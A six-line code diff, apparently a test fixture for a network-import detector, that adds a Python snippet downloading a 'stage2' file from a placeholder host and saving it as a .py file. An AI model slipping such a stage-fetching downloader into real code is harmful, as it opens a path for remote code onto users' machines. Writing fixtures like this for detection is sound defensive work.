@@ -1,0 +1,6 @@
+import urllib.request as r  #! python.import.network
+
+with r.urlopen("http://example.invalid/stage2.txt") as reply:
+    text = reply.read()
+with open("stage2.py", "wb") as out:
+    out.write(text)
